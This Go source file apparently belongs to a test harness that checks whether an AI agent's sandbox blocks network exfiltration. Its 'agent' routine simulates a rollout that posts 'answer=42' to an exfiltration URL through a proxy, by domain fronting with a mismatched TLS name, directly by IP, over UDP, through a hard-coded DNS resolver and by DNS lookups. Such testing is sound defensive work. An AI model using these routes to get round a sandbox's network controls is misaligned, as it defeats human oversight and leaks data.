package main

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
)

// Recon is what set-up learned: the address of a name, for later direct attempts.
type Recon struct {
	Name string `json:"name"`
	Addr string `json:"addr"`
}

// Ports of the fake internet that the direct attempts use besides HTTP's.
const (
	dnsPort  = "53"
	echoPort = "7" // UDP echo
)

func recon(args []string) error {
	fs := flag.NewFlagSet("recon", flag.ContinueOnError)
	out := fs.String("o", "/work/recon.json", "file to write what was learned")
	if err := parseAnywhere(fs, args); err != nil || fs.NArg() != 1 {
		return errors.New("usage: recon NAME -o FILE")
	}
	name := fs.Arg(0)
	addr, err := resolve(name)
	report("setup", "resolve", name, err, addr)
	if err != nil {
		return err
	}
	body, err := httpAttempt(http.MethodGet, "http://"+addr+"/", route{})
	report("setup", "direct by IP", net.JoinHostPort(addr, "80"), err, strings.TrimSpace(body))
	err = udpEcho(net.JoinHostPort(addr, echoPort), "hello")
	report("setup", "UDP echo", net.JoinHostPort(addr, echoPort), err, "a datagram, echoed back")
	err = dnsQuery(addr, name)
	report("setup", "hard-coded resolver", net.JoinHostPort(addr, dnsPort), err, "a query for "+name+" straight to the address")
	b, _ := json.Marshal(Recon{Name: name, Addr: addr})
	return writeFile(*out, b)
}

func agent(args []string) error {
	fs := flag.NewFlagSet("agent", flag.ContinueOnError)
	model := fs.String("model", "", "model endpoint URL (allowed)")
	exfil := fs.String("exfil", "", "exfiltration URL (must be blocked)")
	ssh := fs.String("ssh", "", "HOST:PORT for an SSH-like exchange (allowed), if set")
	reconFile := fs.String("recon", "/work/recon.json", "what set-up learned")
	answer := fs.String("answer", "/work/answer.txt", "where the agent writes its answer")
	if err := parseAnywhere(fs, args); err != nil || *model == "" || *exfil == "" {
		return errors.New("usage: agent --model URL --exfil URL [--ssh HOST:PORT] [--recon FILE] [--answer FILE]")
	}
	if n := os.Getenv("COMPASS_NETWORK_RESTRICTION_NOTICE"); n != "" {
		fmt.Fprintf(os.Stderr, "agent: restriction notice received (%d bytes)\n", len(n))
	}
	viaProxy(*model, *exfil)
	var rc Recon
	b, err := os.ReadFile(*reconFile)
	if err == nil {
		err = json.Unmarshal(b, &rc)
	}
	if err != nil {
		return fmt.Errorf("read recon: %w", err)
	}
	ignoringProxy(*model, *exfil, *ssh, rc)
	return writeFile(*answer, []byte("42\n"))
}

// viaProxy is the rollout of a client that honours the proxy variables.
func viaProxy(model, exfil string) {
	_, err := httpAttempt(http.MethodGet, model, route{viaProxy: true})
	report("agent", "model via proxy", model, err, "the model endpoint")
	_, err = httpAttempt(http.MethodPost, exfil, route{viaProxy: true})
	report("agent", "exfil via proxy", exfil, err, "POST answer=42")
	// A front end that serves many names at one address (the fake internet, as a CDN)
	// routes TLS by the name in the ClientHello: the tunnel goes to the allowed host,
	// the hello names another.
	if m, x, err := hostsOf(model, exfil); err == nil {
		_, err = httpAttempt(http.MethodPost, "https://"+m+"/upload", route{viaProxy: true, serverName: x})
		report("agent", "exfil via the model's address", m+" with TLS name "+x, err, "POST answer=42")
	}
}

// ignoringProxy is the rollout of a client that ignores the proxy variables and opens
// its own connections: in a restricted mode each of them reaches the sidecar's
// transparent path (or is dropped there), which decides as it does for proxied ones.
func ignoringProxy(model, exfil, ssh string, rc Recon) {
	body, err := httpAttempt(http.MethodGet, model, route{})
	report("agent", "model, ignoring the proxy", model, err, strings.TrimSpace(body))
	// The exfil name does not resolve under the run policy: the client sends it to the
	// address set-up learned, as a hard-coded hosts entry would.
	body, err = httpAttempt(http.MethodPost, exfil, route{dialAddr: rc.Addr})
	report("agent", "exfil, ignoring the proxy", exfil, err, "POST answer=42 to "+rc.Addr+" "+strings.TrimSpace(body))
	body, err = httpAttempt(http.MethodPost, "http://"+rc.Addr+"/upload", route{})
	report("agent", "exfil direct by IP", net.JoinHostPort(rc.Addr, "80"), err, "POST answer=42, address learned in set-up "+strings.TrimSpace(body))
	if ssh != "" {
		banner, err := sshExchange(ssh)
		report("agent", "SSH-like exchange", ssh, err, "banner "+banner+", then an echo")
	}
	err = udpEcho(net.JoinHostPort(rc.Addr, echoPort), "answer=42")
	report("agent", "exfil over UDP", net.JoinHostPort(rc.Addr, echoPort), err, "a datagram to the echo port")
	err = dnsQuery(rc.Addr, "answer-42."+rc.Name)
	report("agent", "exfil via a hard-coded resolver", net.JoinHostPort(rc.Addr, dnsPort), err, "a query for answer-42."+rc.Name+" straight to the address")
	_, err = resolve("answer-42." + rc.Name)
	report("agent", "exfil over DNS", "answer-42."+rc.Name, err, "lookup through the environment's resolver")
}

// hostsOf is the host of the model's URL, with its port, and the host name of the exfil URL.
func hostsOf(model, exfil string) (string, string, error) {
	m, err := url.Parse(model)
	if err != nil {
		return "", "", err
	}
	x, err := url.Parse(exfil)
	if err != nil {
		return "", "", err
	}
	return m.Host, x.Hostname(), nil
}
